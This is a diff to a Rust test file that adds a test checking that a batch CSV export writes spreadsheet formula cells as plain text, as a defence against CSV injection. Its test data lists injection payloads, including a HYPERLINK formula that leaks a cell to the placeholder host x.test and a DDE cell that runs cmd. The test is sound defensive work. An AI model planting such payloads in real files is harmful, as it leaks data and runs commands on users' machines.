@@ -6,7 +6,7 @@
 
 use hitech_eligibility::engine::fact::{Audience, Fact};
 use hitech_eligibility::shell::batch::cell::{self, AgeValue, ChoiceValue, MoneyUnit, Problem};
-use hitech_eligibility::shell::batch::Batch;
+use hitech_eligibility::shell::batch::{export, Batch};
 use hitech_eligibility::shell::parts::number_value;
 use hitech_eligibility::{CivilDate, Profile};
 use serde_json::Value;
@@ -481,6 +481,52 @@ fn cells_with_commas_quotes_and_line_breaks_are_exported_as_read() {
         vec![rows[0].len(); 3],
         "every row as wide as the header"
     );
+}
+
+/// Cells a spreadsheet would run as formulas (OWASP's CSV injection), in
+/// the header, a mapped name, a mapped number and a kept column.
+const FORMULA_CELLS: [&str; 10] = [
+    "=HYPERLINK(\"http://x.test/?leak=\"&C2,\"点击\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+];
+
+#[test]
+fn the_csv_export_writes_formulas_as_text() {
+    let mut text = String::from("企业名称,营业收入（万元）,备注,\"=HYPERLINK(\"\"http://x.test\"\")\"\r\n");
+    for cell in FORMULA_CELLS {
+        let quoted = format!("\"{}\"", cell.replace('"', "\"\""));
+        text.push_str(&format!("{quoted},-5,{quoted},{quoted}\r\n"));
+    }
+    text.push_str("甲公司,200,'已有引号,a=b\r\n");
+    let mut batch = read(text.as_bytes());
+    batch.run(0, batch.rows(), AS_OF).unwrap();
+    let export = batch.export_csv();
+    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(&export[3..]);
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(&rows[0][3], "'=HYPERLINK(\"http://x.test\")", "a header too");
+    for (row, cell) in rows[1..].iter().zip(FORMULA_CELLS) {
+        for column in [0, 2, 3] {
+            assert_eq!(row[column], format!("'{cell}"), "column {column}");
+        }
+        assert_eq!(&row[1], "'-5", "a number as read is a cell as read");
+    }
+    let last = &rows[FORMULA_CELLS.len() + 1];
+    assert_eq!([&last[0], &last[1], &last[2], &last[3]], ["甲公司", "200", "'已有引号", "a=b"], "other cells as read");
+    for row in &rows {
+        for cell in row.iter().skip(4) {
+            assert!(!export::starts_a_formula(cell.as_bytes()), "{cell:?}");
+        }
+    }
+    assert_eq!(export::spreadsheet_safe("－1"), "'－1");
+    assert_eq!(export::spreadsheet_safe("1-2"), "1-2");
 }
 
 mod hostile {
